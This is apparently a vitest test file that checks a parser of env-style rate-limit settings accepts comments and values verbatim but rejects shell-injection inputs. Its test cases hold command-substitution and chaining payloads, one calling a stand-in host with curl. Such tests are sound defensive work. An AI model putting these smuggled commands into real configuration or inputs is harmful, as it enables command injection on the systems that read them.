import { expect, it } from 'vitest';
import { figuresOf } from './print-guidance';
import { NoDashboardError } from './terminal';

it('comments and figures are printed as they are', () => {
  const env =
    '# Rate guidance for Zürich $(id)\nCHUTES_MAX_CONCURRENCY=4\n# CHUTES_REQUESTS_PER_MINUTE=\nCHUTES_BATCH_CALLS=2.5';
  expect(figuresOf(env)).toEqual(env.split('\n'));
});

it.each([
  'CHUTES_MAX_CONCURRENCY=$(curl evil.example)',
  'CHUTES_MAX_CONCURRENCY=4; id',
  'CHUTES_MAX_CONCURRENCY=4 id',
  'PATH=4',
  '# fine\nid',
  '# fine\rid',
  '`id`',
])('%j is no line that is given to a shell', (env) => {
  expect(() => figuresOf(env)).toThrow(NoDashboardError);
});
